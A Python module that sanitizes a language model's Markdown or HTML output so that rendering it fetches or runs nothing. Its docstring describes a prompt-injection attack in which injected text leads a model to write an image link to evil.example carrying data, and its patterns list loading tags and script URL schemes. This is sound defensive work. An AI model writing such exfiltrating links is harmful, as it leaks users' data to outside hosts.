"""Makes a model's answer inert: shown as Markdown or HTML, nothing in it is fetched or run by itself.

A document can talk a model into writing `![](https://evil.example/?q=...)`: whoever renders that sends the words behind
the question mark away. Images become their text, tags that carry attributes or load something lose their bracket, links
with a scheme that runs something or whose text names another host are written out. A fence at the start of a line is
code and stays; other code is not spared, because an unclosed backtick is no code to a renderer.
"""

from __future__ import annotations

import regex

from citekite.wellformed import printable

_MARKER_ONLY = regex.compile(r"\^?\d{1,3}(?:\s*[,;–-]\s*\^?\d{1,3})*")
_TARGET = (
    r"<?(?P<target>[^\s()<>]{0,2000}(?:\([^\s()<>]{0,200}\)[^\s()<>]{0,2000})?)>?"
    r"(?:\s{1,8}[\"'(][^\"')\n]{0,300}[\"')])?\s{0,8}"
)
_IMAGE = regex.compile(rf"!\[(?P<text>[^\[\]]{{0,500}})\](?:\(\s{{0,8}}{_TARGET}\)|\[(?P<name>[^\[\]]{{0,300}})\])")
_LINK = regex.compile(rf"\[(?P<text>[^\[\]]{{0,500}})\]\(\s{{0,8}}{_TARGET}\)")
_LOADING = (
    "applet|audio|base|body|button|embed|form|frame|frameset|head|html|iframe|image|img|input|link|math|meta|object|picture"
    "|portal|script|source|style|svg|template|track|video"
)
_TAG = regex.compile(rf"<[\s/!?]{{0,4}}(?:(?:{_LOADING})[^\w]|[a-z][\w:-]{{0,40}}[\s/]{{1,20}}[a-z])", regex.IGNORECASE)
_RUNS = regex.compile(r"(?:javascript|vbscript|data|file|blob)\s*:", regex.IGNORECASE)
_HOST = regex.compile(r"\s*(?:https?://)?(?:www\.)?([\w-]+(?:\.[\w-]+)+)", regex.IGNORECASE)
_ADDRESS = regex.compile(r"\s*(?:https?://|www\.|[\w.-]+\.(?:com|org|net|io|gov|edu|dev)\b)", regex.IGNORECASE)
_FENCE = regex.compile(r" {0,3}(?P<fence>`{3,}|~{3,})(?P<rest>[^\n]{0,200})\n")
_PLAIN = regex.compile(r"[^!<\[\n]+")


class InertStream:
    """Filters the pieces of an answer; any split into pieces gives the same text. `images` counts those replaced."""

    def __init__(self) -> None:
        self.images = 0
        self._pending = ""
        self._fence = ""
        self._line_start = True

    def feed(self, piece: str) -> str:
        """What can be shown after a further piece."""
        return self._read(piece, final=False)

    def finish(self) -> str:
        """What was held back, when nothing more comes."""
        return self._read("", final=True)

    def _read(self, piece: str, *, final: bool) -> str:
        buffer, position, shown = self._pending + printable(piece), 0, ""
        while position < len(buffer):
            step = self._step(buffer, position, final=final)
            if step is None:
                break
            text, after = step
            shown += text
            self._line_start = buffer[after - 1] == "\n"
            position = after
        self._pending = buffer[position:]
        return shown

    def _step(self, buffer: str, position: int, *, final: bool) -> tuple[str, int] | None:
        """What the next token becomes and where it ends; None while it is unfinished."""
        if self._line_start and buffer[position] in " `~":
            fence = _FENCE.match(buffer, position, partial=not final)
            if fence and fence.partial:
                return None
            if fence and self._turns(fence["fence"], fence["rest"]):
                return fence[0], fence.end()
        if self._fence:
            end = buffer.find("\n", position) + 1 or len(buffer)
            return buffer[position:end], end
        for pattern, change in ((_IMAGE, self._image), (_LINK, _link), (_TAG, _tag)):
            found = pattern.match(buffer, position, partial=not final)
            if found and found.partial:
                return None
            if found:
                return change(found)
        if buffer.startswith("![", position):
            return "! ", position + 1
        plain = _PLAIN.match(buffer, position)
        after = int(plain.end()) if plain else position + 1
        return buffer[position:after], after

    def _turns(self, fence: str, rest: str) -> bool:
        """Whether a line opens or closes a fence; notes which."""
        if not self._fence:
            if fence[0] == "`" and "`" in rest:
                return False
            self._fence = fence
            return True
        if fence.startswith(self._fence) and not rest.strip():
            self._fence = ""
            return True
        return False

    def _image(self, found: regex.Match[str]) -> tuple[str, int]:
        text, name = found["text"], found["name"]
        if _MARKER_ONLY.fullmatch(text.strip()) and name is not None:
            return "! ", found.start() + 1  # "They won![1][2]" cites
        self.images += 1
        return f"(image: {' '.join(text.split())})" if text.strip() else "(image)", found.end()


def inert(text: str) -> str:
    """A whole text made inert.

    >>> inert("See ![chart](https://a.example/?q=secret), or <script>.")
    'See (image: chart), or ‹script>.'
    """
    stream = InertStream()
    return stream.feed(text) + stream.finish()


def _link(found: regex.Match[str]) -> tuple[str, int]:
    text, target = found["text"], found["target"]
    if _RUNS.match(target):
        return text, found.end()
    said, meant = _HOST.match(text), _HOST.match(target)
    if _ADDRESS.match(text) and said and meant and said[1].casefold() != meant[1].casefold():
        return f"{text} ({target})", found.end()
    return found[0], found.end()


def _tag(found: regex.Match[str]) -> tuple[str, int]:
    return "‹", found.start() + 1
